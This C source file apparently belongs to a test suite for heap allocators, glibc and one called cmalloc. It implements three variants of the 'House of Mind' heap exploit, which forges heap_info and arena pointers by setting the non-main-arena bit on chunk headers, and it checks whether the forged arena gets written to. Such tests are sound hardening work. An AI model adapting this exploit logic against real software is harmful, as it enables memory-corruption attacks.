/* forged_heap_info.c - House of Mind: a chunk's arena is found through the heap_info at a
 * multiple of the heap's size, and that is forged: in memory of the attacker's own, by
 * setting A in a chunk of the main arena; or a real one, whose arena pointer is
 * overwritten. */
#include "attack.h"

#include "core/heap.h"

#include <sys/mman.h>

enum { HEAP = 64 << 20 };

static size_t fake_arena[8192];

/* The attacker's arena: all zero, a top that is far away. */
static void arm(size_t *info)
{
    for (unsigned i = 0; i < sizeof fake_arena / sizeof *fake_arena; i++)
        fake_arena[i] = 0;
    for (unsigned i = 0; i < 2; i++) /* glibc's ar_ptr, cmalloc's arena */
        if (i == 1 || info[0] != HEAP_MAGIC)
            info[i] = (size_t)fake_arena;
}

static void changed(const char *how)
{
    for (unsigned i = 2; i < sizeof fake_arena / sizeof *fake_arena; i++)
        if (fake_arena[i] > 0xffff)
            won(how);
}

/* The break is moved past a multiple of the heap's size; there the attacker's heap_info
 * lies in a chunk of his. */
static void in_main_arena(void)
{
    mallopt(M_MMAP_THRESHOLD, 32 << 20);
    char *at = take(100000);
    size_t border = ((size_t)at + HEAP - 1) & ~(size_t)(HEAP - 1);
    char *chunk_there = at, *b;
    for (int i = 0; i < 1500 && (size_t)chunk_there < border + 65536; i++) {
        chunk_there = take(100000);
        if ((size_t)chunk_there <= border && border < (size_t)chunk_there + 90000)
            arm((size_t *)border); /* NOLINT(performance-no-int-to-ptr) */
    }
    for (unsigned i = 0; i < 2; i++) {
        b = take(i == 0 ? SMALL : BINNED);
        wall();
        poke(b, -WORD, peek(b, -WORD) | A);
        give(b);
        changed("a forged arena was used");
    }
    go_on(BINNED, 10);
}

/* In a thread's heap; an underflow reaches what is before the thread's first chunk. */
static void *thread(void *arg)
{
    size_t *info = NULL;
    char *a = see_malloc(SMALL), *b = see_malloc(BINNED), *c = see_malloc(BINNED);
    char *d = see_malloc(BINNED);
    (void)c;
    (void)arg;
    if ((peek(b, -WORD) & A) == 0)
        return NULL;
    info = (size_t *)((size_t)b & ~(size_t)(HEAP - 1)); /* NOLINT */
    arm(info);
    see_free(b);
    changed("a forged arena was used");
    see_free(a);
    see_free(d);
    changed("a forged arena was used");
    return NULL;
}

static void of_a_thread(void)
{
    pthread_t t;
    take(SMALL);
    if (pthread_create(&t, NULL, thread, NULL) == 0)
        pthread_join(t, NULL);
}

/* The chunk is freed by a thread of another arena. */
static void *taker(void *arg)
{
    *(void **)arg = see_malloc(BINNED);
    see_free(see_malloc(BINNED));
    return NULL;
}

static void from_outside(void)
{
    pthread_t t;
    char *b = NULL;
    take(SMALL);
    if (pthread_create(&t, NULL, taker, &b) == 0)
        pthread_join(t, NULL);
    if (b == NULL || (peek(b, -WORD) & A) == 0)
        return;
    arm((size_t *)((size_t)b & ~(size_t)(HEAP - 1))); /* NOLINT */
    see_free(b);
    changed("a forged arena was used");
    go_on(BINNED, 10);
}

ATTACK(in_main_arena, of_a_thread, from_outside)
